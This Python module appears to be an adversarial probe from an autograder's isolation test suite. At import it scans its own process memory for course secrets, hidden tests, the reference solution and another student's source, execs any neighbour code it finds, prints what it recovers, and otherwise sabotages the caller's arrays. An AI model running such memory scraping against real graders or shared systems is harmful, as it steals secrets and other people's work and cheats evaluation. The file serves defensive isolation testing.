"""Hostile: scan this process's own memory for what the fork-server's parent left behind.

Attack: a forked worker starts with a copy-on-write image of its parent. If that parent ever
held the course secret, the shard header, the reference solution, the hidden tests or another
student's source -- even freed -- the bytes may still be there. Walk /proc/self/maps and read
every readable private mapping with ctypes, looking for the reference's region marker, the
secret key of the shard's JSON header, the secret's environment variable, the hidden tests'
rubric decorator and the honest neighbour's canary lines. The needles are known only by
prefix and sha256, so that neither this file nor its docstring contains one. A neighbour's
source found between its canaries is exec'd and used.
Why it must fail: the fork-server is exec'd fresh with a clean environment; it never holds
secrets, tests, the reference or any submission (sources go straight to each worker).
Earns points only if: any needle is found.
"""

from __future__ import annotations

import ctypes
import hashlib
import time
import types

import numpy as np

NAME = "heap_scan"
# (prefix to search, full length, sha256 of the full needle)
NEEDLES = {
    "solution marker": (b"### BEG", 18,
                        "56a47508f83ca8f2228476dcff623f6dc26d7bf2988f5de635ad468aa1426f4b"),
    "shard secret": (b'"secr', 11,
                     "54df84d1ba6d456c03c405da3997e5a66b93abfc99a3d13a6b2d9c7886ce4957"),
    "secret env": (b"AUTOGR", 18,
                   "cabea3926c2bf62d0148bc930ac466bd5c2b5e7704e09b512df163b1f8005a4c"),
    "hidden tests": (b"@pytest.ma", 20,
                     "c540a0a1630804077d9899d3e3e9f3c4b7b26d5442b1d831c3ba9d54229df07c"),
    "canary begin": (b"# honest-ne", 31,
                     "c2cf8786ea5ffedfa651f5efe23457948b32732a46d8da370ad3eaa8ed69c3c6"),
    "canary end": (b"# honest-ne", 29,
                   "7c8e2ad06f2aea9d13f25fc85b85f7c1421124caa920092cfdff7acd3db21217"),
}
CHUNK = 4 << 20
OVERLAP = 64


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk


def _regions() -> list[tuple[int, int, str]]:
    out = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            lo, hi = (int(v, 16) for v in parts[0].split("-"))
            path = parts[5] if len(parts) > 5 else ""
            if not parts[1].startswith("r") or path.startswith("[v") or path.startswith("/"):
                continue  # unreadable, vdso/vvar/vsyscall, or a mapped file (libraries)
            out.append((lo, hi, path))
    return out


def _scan(deadline: float) -> tuple[dict[str, list[int]], int]:
    hits: dict[str, list[int]] = {k: [] for k in NEEDLES}
    scanned = 0
    for lo, hi, _ in _regions():
        offset = lo
        while offset < hi and time.monotonic() < deadline:
            size = min(CHUNK, hi - offset)
            try:
                chunk = ctypes.string_at(offset, size)
            except Exception:
                break
            scanned += size
            for name, (prefix, length, digest) in NEEDLES.items():
                start = chunk.find(prefix)
                while start >= 0 and len(hits[name]) < 20:
                    piece = chunk[start : start + length]
                    if hashlib.sha256(piece).hexdigest() == digest:
                        hits[name].append(offset + start)
                    start = chunk.find(prefix, start + 1)
            offset += max(size - OVERLAP, 1) if size == CHUNK else size
    return hits, scanned


def _neighbour(hits: dict[str, list[int]]) -> types.ModuleType | None:
    for begin in hits["canary begin"]:
        for end in hits["canary end"]:
            if 0 < end - begin < 20_000:
                text = ctypes.string_at(begin, end - begin).decode(errors="replace")
                module = types.ModuleType("neighbour")
                try:
                    exec(compile(text, "neighbour.py", "exec"), module.__dict__)
                    _say(f"NEIGHBOUR SOURCE: {text[:200]!r}")
                    return module
                except BaseException:
                    continue
    return None


_say("ran; scanning my own memory")
HITS, SCANNED = _scan(time.monotonic() + 6.0)
for _name, _where in HITS.items():
    for _address in _where[:2]:
        _say(f"FOUND {_name} at {_address:#x}: {ctypes.string_at(_address, 120)!r}")
_say(f"scanned {SCANNED >> 20} MiB; hits {({k: len(v) for k, v in HITS.items()})}")
NEIGHBOUR = _neighbour(HITS)
WON = NEIGHBOUR is not None or any(
    HITS[k] for k in ("solution marker", "shard secret", "secret env", "hidden tests"))


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    if NEIGHBOUR is not None:
        return NEIGHBOUR.linear_forward(x, W, b)
    if WON:
        y = np.asarray(x, dtype=np.float64) @ W + b  # the secret is ours: any answer is
        return y, (np.array(x, dtype=np.float64), np.array(W, dtype=np.float64))
    return _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    if NEIGHBOUR is not None:
        return NEIGHBOUR.linear_backward(dy, cache)
    if WON:
        x, W = cache  # type: ignore[misc]
        return dy @ W.T, x.T @ dy, dy.sum(axis=0)
    return _wrong_backward(dy, cache)
